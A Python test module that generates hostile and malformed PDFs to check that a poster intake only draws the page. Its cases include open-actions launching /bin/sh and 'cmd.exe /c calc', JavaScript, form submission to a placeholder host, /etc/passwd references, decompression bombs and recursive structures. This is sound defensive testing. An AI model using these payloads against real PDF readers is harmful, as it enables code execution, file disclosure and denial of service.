"""PDFs as they may come for a poster, told of as in `hostile_pictures`: what they are called, hold and come to.

They are written by hand, object by object. Only those locked by a real password are written by pikepdf, and have other
bytes each time: their salt is drawn by lot.
"""

from __future__ import annotations

import io
import random
import zlib
from collections.abc import Sequence
from typing import Literal

import pikepdf

from tests import forged
from tests.hostile_pictures import ANY, BROKEN, CANARY, EITHER, LARGE, ODD, REFUSED, TAKEN, Case, motif

_MIB = 1 << 20

# The motif of the pictures in a PDF's terms: its zero is at the foot, and a point is a point.
_BOX = "0 0 96 136"
_MOTIF = (
    b"q .0706 .2039 .3373 rg 0 102 64 34 re f .0392 .3725 .2549 rg 48 34 48 34 re f "
    b".4706 .0784 .1569 rg 0 0 32 24 re f Q "
)
# Where the page says that it is to be turned clockwise, its drawing is turned the other way.
_TURNS = {0: b"", 90: b"0 1 -1 0 136 0 cm ", 180: b"-1 0 0 -1 96 136 cm ", 270: b"0 -1 1 0 0 96 cm "}


def stream(data: bytes, fields: str = "") -> bytes:
    """An object that holds data."""
    return f"<<{fields}/Length {len(data)}>>\nstream\n".encode() + data + b"\nendstream"


def pdf(objects: Sequence[bytes], trailer: str = "", *, root: str = "1 0 R", start: int | None = None) -> bytes:
    """A PDF of these objects, numbered from 1, with its table; `start` is where it says that the table lies."""
    out, places = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", []
    for number, data in enumerate(objects, 1):
        places.append(len(out))
        out += f"{number} 0 obj\n".encode() + data + b"\nendobj\n"
    rows = "".join(f"{place:010} 00000 n \n" for place in places)
    end = f"xref\n0 {len(places) + 1}\n0000000000 65535 f \n{rows}"
    end += f"trailer\n<</Size {len(places) + 1}/Root {root}{trailer}>>\n"
    return out + f"{end}startxref\n{len(out) if start is None else start}\n%%EOF\n".encode()


def sheet(
    content: bytes = _MOTIF,
    more: Sequence[bytes] = (),
    *,
    box: str = _BOX,
    page: str = "",
    catalog: str = "",
    resources: str = "",
    pages: str = "/Kids[3 0 R]/Count 1",
    length: str = "",
    trailer: str = "",
) -> bytes:
    """A PDF of one page: 1 is the catalogue, 2 the tree of pages, 3 the page, 4 what it draws, and `more` from 5 on."""
    media = f"/MediaBox[{box}]" if box else ""
    return pdf(
        [
            f"<</Type/Catalog/Pages 2 0 R{catalog}>>".encode(),
            f"<</Type/Pages{pages}>>".encode(),
            f"<</Type/Page/Parent 2 0 R{media}/Contents 4 0 R/Resources<<{resources}>>{page}>>".encode(),
            stream(content, length),
            *more,
        ],
        trailer,
    )


def form(content: bytes, resources: str = "", fields: str = "") -> bytes:
    """A drawing that others draw by its name."""
    return stream(content, f"/Type/XObject/Subtype/Form/BBox[0 0 999 999]/Resources<<{resources}>>{fields}")


def _hostile() -> list[Case]:
    return [
        *_sound(),
        *_broken(),
        *_locked(),
        *_pages(),
        *_boxes(),
        *_that_act(),
        *_from_elsewhere(),
        *_circles(),
        *_too_much(),
    ]


def _sound() -> list[Case]:
    """What drawing programs write, and a little beside it."""
    second = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 999 9]/Contents 4 0 R>>"
    packed, straightened = io.BytesIO(), io.BytesIO()
    with pikepdf.open(io.BytesIO(sheet())) as document:
        document.save(packed, object_stream_mode=pikepdf.ObjectStreamMode.generate, deterministic_id=True)
        document.save(straightened, linearize=True, deterministic_id=True)
    picture = stream(
        zlib.compress(motif().tobytes()),
        "/Type/XObject/Subtype/Image/Width 96/Height 136/BitsPerComponent 8/ColorSpace/DeviceRGB/Filter/FlateDecode",
    )
    pressed = b".93 .8 .66 0 k 0 0 96 136 re f"
    words = f"/Title({CANARY})/Author({CANARY})"
    return [
        ("plain.pdf", sheet(), TAKEN),
        ("UPPER.PDF", sheet(), TAKEN),
        ("packed.pdf", packed.getvalue(), TAKEN),
        ("straightened.pdf", straightened.getvalue(), TAKEN),
        ("two-pages.pdf", sheet(more=[second], pages="/Kids[3 0 R 5 0 R]/Count 2"), TAKEN),
        ("picture.pdf", sheet(b"96 0 0 136 0 0 cm /P Do", [picture], resources="/XObject<</P 5 0 R>>"), TAKEN),
        ("in-ink.pdf", sheet(pressed), ODD),
        ("white.pdf", sheet(b""), ODD),
        ("words-about.pdf", sheet(more=[f"<<{words}>>".encode()], trailer="/Info 5 0 R"), TAKEN),
        *[(f"turned-{turn}.pdf", _turned(turn), TAKEN) for turn in _TURNS],
        ("turned-minus-90.pdf", _turned(270, said=-90), TAKEN),
        ("turned-450.pdf", _turned(90, said=450), TAKEN),
        ("turned-45.pdf", _turned(0, said=45), ANY),
        ("junk-before.pdf", b"\n" * 500 + sheet(), EITHER),
        ("junk-behind.pdf", sheet() + CANARY.encode() * 9, EITHER),
        ("pdf-named.png", sheet(), EITHER),
        ("png-named.pdf", forged.saved(motif(), "PNG"), EITHER),
    ]


def _turned(turn: int, said: int | None = None) -> bytes:
    box = _BOX if turn in (0, 180) else "0 0 136 96"
    return sheet(_TURNS[turn] + _MOTIF, box=box, page=f"/Rotate {turn if said is None else said}")


def _broken() -> list[Case]:
    """Cut off, changed, or with a part left out."""
    whole = sheet()
    changed = []
    for number in range(10):
        dice = random.Random(f"pdf {number}")
        data = bytearray(whole)
        for _ in range(1 + number):
            data[dice.randrange(len(data))] = dice.randrange(256)
        changed.append((f"changed-{number}.pdf", bytes(data), ANY))
    # Readers mend a lost table by looking for objects, so the later cuts may leave a page; but not half of one.
    cuts = ((1, BROKEN), (10, BROKEN), (30, ANY), (50, ANY), (75, EITHER), (90, EITHER))
    return [
        ("empty.pdf", b"", BROKEN),
        ("one-byte.pdf", b"%", BROKEN),
        ("signature.pdf", b"%PDF-1.7\n", BROKEN),
        ("noughts.pdf", bytes(5000), BROKEN),
        ("noise.pdf", b"%PDF-1.7\n" + random.Random(5).randbytes(5000), BROKEN),
        *[(f"cut-{share:02d}.pdf", whole[: len(whole) * share // 100], expected) for share, expected in cuts],
        *changed,
        ("no-signature.pdf", whole[9:], EITHER),
        ("no-catalogue.pdf", pdf([b"null"]), BROKEN),
        ("catalogue-elsewhere.pdf", pdf([b"<</Type/Catalog>>"], root="99 0 R"), BROKEN),
        ("content-missing.pdf", whole.replace(b"/Contents 4 0 R", b"/Contents 9 0 R"), ODD),
        ("content-no-drawing.pdf", sheet(random.Random(6).randbytes(5000)), ANY),
        ("content-not-packed.pdf", sheet(b"\xff" * 500, length="/Filter/FlateDecode"), ANY),
        ("table-lies.pdf", whole.replace(b"0000000015", b"0000000099"), EITHER),
    ]


def _locked() -> list[Case]:
    """Locked by a password that nobody gave, or with an open lock, as from programs that forbid only to change."""

    def locked(user: str, owner: str, strength: Literal[3, 6]) -> bytes:
        out = io.BytesIO()
        with pikepdf.open(io.BytesIO(sheet())) as document:
            lock = pikepdf.Encryption(user=user, owner=owner, R=strength, aes=strength > 3, metadata=strength > 3)
            document.save(out, encryption=lock)
        return out.getvalue()

    def lock(filter_name: str, more: str = "") -> bytes:
        key = "<" + "5a" * 32 + ">"
        fields = f"/Filter/{filter_name}/V 1/R 2/O{key}/U{key}/P -4{more}"
        return sheet(more=[f"<<{fields}>>".encode()], trailer="/Encrypt 5 0 R/ID[<00><00>]")

    return [
        ("locked.pdf", locked("hemligt", "hemligare", 6), BROKEN),
        ("locked-weakly.pdf", locked("hemligt", "hemligare", 3), BROKEN),
        ("locked-against-changes.pdf", locked("", "hemligare", 6), TAKEN),
        # A key that fits nothing, so its bytes are the same each time.
        ("locked-by-nothing.pdf", lock("Standard"), BROKEN),
        ("lock-unknown.pdf", lock("Exempel"), BROKEN),
        ("lock-endless.pdf", lock("Standard", "/Length 2147483647"), BROKEN),
    ]


def _pages() -> list[Case]:
    """Trees of pages that hold none, hold themselves, or count wrong."""
    deep = [f"<</Type/Pages/Kids[{number + 1} 0 R]/Count 1>>".encode() for number in range(5, 5_005)]
    last = f"<</Type/Page/Parent 2 0 R/MediaBox[{_BOX}]/Contents 4 0 R>>".encode()
    return [
        ("pages-none.pdf", sheet(pages="/Kids[]/Count 0"), BROKEN),
        ("pages-none-counted-one.pdf", sheet(pages="/Kids[]/Count 1"), BROKEN),
        ("pages-no-list.pdf", sheet(pages="/Count 1"), REFUSED),
        ("pages-null.pdf", sheet(pages="/Kids[null]/Count 1"), REFUSED),
        ("pages-a-number.pdf", sheet(pages="/Kids 7/Count 1"), REFUSED),
        ("pages-count-billion.pdf", sheet(pages="/Kids[3 0 R]/Count 2147483647"), EITHER),
        ("pages-count-below-zero.pdf", sheet(pages="/Kids[3 0 R]/Count -1"), EITHER),
        ("pages-within-themselves.pdf", sheet(pages="/Kids[2 0 R]/Count 1"), REFUSED),
        (
            "pages-in-a-circle.pdf",
            sheet(more=[b"<</Type/Pages/Kids[2 0 R]/Count 1>>"], pages="/Kids[5 0 R]/Count 1"),
            REFUSED,
        ),
        ("pages-parent-itself.pdf", sheet().replace(b"/Parent 2 0 R", b"/Parent 3 0 R"), EITHER),
        ("pages-5000-deep.pdf", sheet(more=[*deep, last], pages="/Kids[5 0 R]/Count 1"), EITHER),
        (
            "page-a-number.pdf",
            pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", b"7"]),
            REFUSED,
        ),
    ]


def _boxes() -> list[Case]:
    """Sizes of paper."""
    aside = b"1 0 0 1 300 300 cm " + _MOTIF
    return [
        ("box-huge.pdf", sheet(box="0 0 1000000 1000000"), LARGE),
        ("box-endless.pdf", sheet(box="0 0 1e30 1e30"), ANY),
        ("box-digits.pdf", sheet(box=f"0 0 {'9' * 400} {'9' * 400}"), ANY),
        # Five metres a side, as large as Acrobat can.
        ("box-five-metres.pdf", sheet(box="0 0 14400 14400"), ANY),
        ("box-thin.pdf", sheet(box="0 0 14400 1"), ANY),
        ("box-high.pdf", sheet(box="0 0 1 14400"), ANY),
        ("box-hair.pdf", sheet(box="0 0 .0001 14400"), ANY),
        ("box-zero.pdf", sheet(box="0 0 0 0"), ANY),
        ("box-missing.pdf", sheet(box=""), ANY),
        ("box-three-numbers.pdf", sheet(box="0 0 96"), ANY),
        ("box-of-words.pdf", sheet(box="/a /b (c) null"), ANY),
        ("box-backwards.pdf", sheet(box="96 136 0 0"), TAKEN),
        ("box-elsewhere.pdf", sheet(aside, box="300 300 396 436"), TAKEN),
        ("box-below-zero.pdf", sheet(b"1 0 0 1 -96 -136 cm " + _MOTIF, box="-96 -136 0 0"), TAKEN),
        ("unit-huge.pdf", sheet(page="/UserUnit 1000000"), ANY),
        ("crop.pdf", sheet(aside, box="0 0 600 600", page="/CropBox[300 300 396 436]"), TAKEN),
        ("crop-empty.pdf", sheet(page="/CropBox[5 5 5 5]"), ANY),
        ("crop-outside.pdf", sheet(page="/CropBox[500 500 600 600]"), ANY),
    ]


def _that_act() -> list[Case]:
    """What a reader would do on opening: run, start, fetch, send. A page is drawn, and nothing else."""
    script = f"/S/JavaScript/JS(app.alert\\('{CANARY}'\\))"
    acts = {
        "script": script,
        "launch": "/S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>",
        "address": "/S/URI/URI(https://tracker.invalid/)",
        "other-file": "/S/GoToR/F(\\\\\\\\tracker.invalid\\\\share\\\\a.pdf)/D[0/Fit]",
        "send": "/S/SubmitForm/F(https://tracker.invalid/)/Flags 4",
        "again": "/S/Named/N/NextPage/Next 5 0 R",
    }
    field = b"<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[0 0 9 9]/AA<</K<<" + script.encode() + b">>>>>>"
    attached = b"<</Type/Filespec/F(run.exe)/EF<</F 6 0 R>>>>"
    return [
        *[
            (f"act-{name}.pdf", sheet(more=[f"<<{act}>>".encode()], catalog="/OpenAction 5 0 R"), TAKEN)
            for name, act in acts.items()
        ],
        ("act-of-the-page.pdf", sheet(page=f"/AA<</O<<{script}>>>>"), TAKEN),
        ("act-of-a-name.pdf", sheet(catalog=f"/Names<</JavaScript<</Names[(a)<<{script}>>]>>>>"), TAKEN),
        (
            "act-of-a-field.pdf",
            sheet(more=[field], page="/Annots[5 0 R]", catalog="/AcroForm<</Fields[5 0 R]>>"),
            TAKEN,
        ),
        (
            "attachment.pdf",
            sheet(
                more=[attached, stream(b"MZ" + CANARY.encode())], catalog="/Names<</EmbeddedFiles<</Names[(a)5 0 R]>>>>"
            ),
            TAKEN,
        ),
    ]


def _from_elsewhere() -> list[Case]:
    """Parts that lie in other files: none is fetched, and what is here is drawn without them."""
    whole_box = "/Subtype/Image/Width 9/Height 9/BitsPerComponent 8/ColorSpace/DeviceGray"
    parts = {
        "picture": stream(b"", f"/Type/XObject{whole_box}/F(/etc/passwd)"),
        "picture-web": stream(b"", f"/Type/XObject{whole_box}/F<</FS/URL/F(https://tracker.invalid/a.png)>>"),
        "form": form(b"", fields="/F(/etc/passwd)/FFilter/FlateDecode"),
        "page": form(b"", fields="/Ref<</F(/etc/passwd)/Page 0>>"),
        "proxy": form(b"", fields="/OPI<</2.0<</Type/OPI/Version 2.0/F(/etc/passwd)>>>>"),
    }
    drawn = _MOTIF + b"/P Do"
    font = b"<</Type/Font/Subtype/TrueType/BaseFont/Exempel/FontDescriptor<</Type/FontDescriptor/FontFile2 9 0 R>>>>"
    return [
        *[
            (f"elsewhere-{name}.pdf", sheet(drawn, [part], resources="/XObject<</P 5 0 R>>"), TAKEN)
            for name, part in parts.items()
        ],
        ("elsewhere-font.pdf", sheet(_MOTIF + b"BT /F 1 Tf (x) Tj ET", [font], resources="/Font<</F 5 0 R>>"), TAKEN),
        ("elsewhere-content.pdf", sheet(_MOTIF, length="/F(/etc/passwd)"), ANY),
    ]


def _circles() -> list[Case]:
    """References that lead back to where they came from."""
    call = _MOTIF + b"/A Do"
    itself, other = "/XObject<</A 5 0 R>>", "/XObject<</A 6 0 R>>"
    chain = [form(b"/A Do", f"/XObject<</A {number + 1} 0 R>>") for number in range(5, 10_005)]
    glyph = stream(b"9 0 0 0 9 9 d1 BT /T 9 Tf (a) Tj ET")
    font = (
        b"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/CharProcs<</a 6 0 R>>/FirstChar 97"
        b"/LastChar 97/Widths[9]/Encoding<</Differences[97/a]>>/Resources<</Font<</T 5 0 R>>>>>>"
    )
    mask = form(b"/G gs 0 0 9 9 re f", "/ExtGState<</G<</SMask<</S/Alpha/G 5 0 R>>>>>>", "/Group<</S/Transparency>>")
    length = sheet().replace(f"/Length {len(_MOTIF)}".encode(), b"/Length 4 0 R")
    plain = sheet()
    table = plain.index(b"xref\n")
    again = f"/Prev {table}"
    inside = stream(b"5 0 6 9 null 7", "/Type/ObjStm/N 2/First 8/Extends 5 0 R")
    return [
        ("form-draws-itself.pdf", sheet(call, [form(b"/A Do", itself)], resources=itself), EITHER),
        (
            "forms-in-a-circle.pdf",
            sheet(call, [form(b"/A Do", other), form(b"/A Do", itself)], resources=itself),
            EITHER,
        ),
        ("forms-10000-deep.pdf", sheet(call, [*chain, form(_MOTIF)], resources=itself), EITHER),
        (
            "letter-draws-itself.pdf",
            sheet(_MOTIF + b"BT /T 9 Tf (a) Tj ET", [font, glyph], resources="/Font<</T 5 0 R>>"),
            ANY,
        ),
        (
            "mask-masks-itself.pdf",
            sheet(_MOTIF + b"/G gs 80 80 9 9 re f", [mask], resources="/ExtGState<</G<</SMask<</S/Alpha/G 5 0 R>>>>>>"),
            ANY,
        ),
        ("length-is-itself.pdf", length, EITHER),
        ("reference-to-itself.pdf", sheet(more=[b"5 0 R"], page="/Rotate 5 0 R"), EITHER),
        (
            "colours-of-themselves.pdf",
            sheet(b"/C cs 1 scn " + _MOTIF, [b"[/Indexed 5 0 R 1 (aaaaaa)]"], resources="/ColorSpace<</C 5 0 R>>"),
            EITHER,
        ),
        ("function-of-itself.pdf", sheet(_MOTIF + b"/S sh", _shading(), resources="/Shading<</S 5 0 R>>"), ANY),
        ("table-before-itself.pdf", sheet(trailer=again), EITHER),
        ("table-beside-itself.pdf", sheet(trailer=f"/XRefStm {table}"), EITHER),
        ("table-outside.pdf", pdf([b"<</Type/Catalog>>"], start=2**31), BROKEN),
        ("table-at-the-start.pdf", pdf([b"<</Type/Catalog>>"], start=0), BROKEN),
        ("objects-within-themselves.pdf", sheet(more=[inside]), EITHER),
    ]


def _shading() -> list[bytes]:
    return [
        b"<</ShadingType 2/ColorSpace/DeviceRGB/Coords[0 0 9 9]/Function 6 0 R>>",
        b"<</FunctionType 3/Domain[0 1]/Functions[6 0 R]/Bounds[]/Encode[0 1]>>",
    ]


def _too_much() -> list[Case]:
    """Small files that ask for more time or memory than there is."""
    uses = "/XObject<</A 5 0 R>>"
    # Ten levels, each of which draws the one below ten times: ten thousand million squares.
    levels = [form(b"/A Do " * 10, f"/XObject<</A {number + 1} 0 R>>") for number in range(5, 15)]
    blank = forged.deflated(b"", b" " * _MIB, 1_000, b" ")
    spaces = b"\x78\xda" + blank + b"\0\0\0\0"  # its checksum is wrong; readers of PDF don't mind
    twice = zlib.compress(forged.zeros(1_000 * _MIB))
    black = "/Type/XObject/Subtype/Image/Width 30000/Height 30000/BitsPerComponent 1/ColorSpace/DeviceGray"
    photograph = "/Type/XObject/Subtype/Image/Width 65500/Height 65500/BitsPerComponent 8/ColorSpace/DeviceRGB"
    jpeg = forged.resized_jpeg(forged.saved(motif(), "JPEG", progressive=True), 65_500, 65_500)
    group = "/Group<</S/Transparency/I true/K true>>"
    groups = [
        form(b"/G gs /A Do", f"/XObject<</A {number + 1} 0 R>>/ExtGState<</G<</ca .99>>>>", group)
        for number in range(5, 35)
    ]
    sampled = "/FunctionType 0/Domain[0 1 0 1 0 1 0 1]/Range[0 1]/Size[999 999 999 999]/BitsPerSample 32"
    return [
        ("forms-billions.pdf", sheet(_MOTIF + b"/A Do", [*levels, form(b"0 0 1 1 re f")], resources=uses), EITHER),
        ("content-bomb.pdf", sheet(spaces, length="/Filter/FlateDecode"), ANY),
        ("content-bomb-twice.pdf", sheet(twice, length="/Filter[/FlateDecode/FlateDecode]"), ANY),
        ("brackets-100000.pdf", sheet(_MOTIF + b"[" * 100_000), EITHER),
        ("brackets-100000-in-object.pdf", sheet(more=[b"[" * 100_000 + b"]" * 100_000], page="/Annots 5 0 R"), EITHER),
        ("states-million.pdf", sheet(_MOTIF + b"q " * 1_000_000), EITHER),
        ("line-long.pdf", sheet(_MOTIF + b"0 0 m " + b"9 9 l 0 9 l " * 100_000 + b"n"), EITHER),
        ("line-dashed.pdf", sheet(_MOTIF + b"[.0001] 0 d 0 50 m 96 50 l S"), ANY),
        ("line-thick.pdf", sheet(_MOTIF + b"1e30 w 0 0 m 9 9 l n"), EITHER),
        ("numbers-huge.pdf", sheet(b"q 1e30 0 0 1e30 0 0 cm " + b"9" * 300 + b" 0 m 1 1 l S Q " + _MOTIF), ANY),
        (
            "picture-30000.pdf",
            sheet(
                b"96 0 0 136 0 0 cm /A Do",
                [stream(forged.zeros(3750 * 30_000), black + "/Filter/FlateDecode")],
                resources=uses,
            ),
            ANY,
        ),
        (
            "picture-65500.pdf",
            sheet(b"96 0 0 136 0 0 cm /A Do", [stream(jpeg, photograph + "/Filter/DCTDecode")], resources=uses),
            ANY,
        ),
        ("groups-30.pdf", sheet(b"/A Do", [*groups, form(_MOTIF)], resources=uses), ANY),
        (
            "function-sampled.pdf",
            sheet(
                b"/C cs 0 0 0 0 scn " + _MOTIF,
                [b"[/DeviceN[/a/b/c/d]/DeviceGray 6 0 R]", stream(bytes(99), sampled)],
                resources="/ColorSpace<</C 5 0 R>>",
            ),
            ANY,
        ),
        ("filters-1000.pdf", sheet(b"", length="/Filter[" + "/FlateDecode" * 1_000 + "]"), ANY),
        ("words-million.pdf", sheet(_MOTIF + b"(x) " * 250_000), EITHER),
    ]


def _endless() -> list[Case]:
    """Patterns that fill a page with more tiles than there is time for, or with themselves."""
    kind = "/Type/Pattern/PatternType 1/PaintType 1/TilingType 1"
    filled = b"/Pattern cs /P scn 0 0 96 136 re f"
    tiny = stream(b"0 0 1 1 re f", f"{kind}/BBox[0 0 1 1]/XStep .0001/YStep .0001/Resources<<>>")
    within = "/BBox[0 0 9 9]/XStep 9/YStep 9/Resources<</Pattern<</P 5 0 R>>>>"
    itself = stream(b"/Pattern cs /P scn 0 0 9 9 re f", kind + within)
    return [
        (f"tile-{name}.pdf", sheet(_MOTIF + filled, [tile], resources="/Pattern<</P 5 0 R>>"), ANY)
        for name, tile in (("tiny", tiny), ("draws-itself", itself))
    ]


PDFS: list[Case] = _hostile()
# What PDFium draws for as long as it is let, so each costs all the time that the intake allows.
ENDLESS_PDFS: list[Case] = _endless()
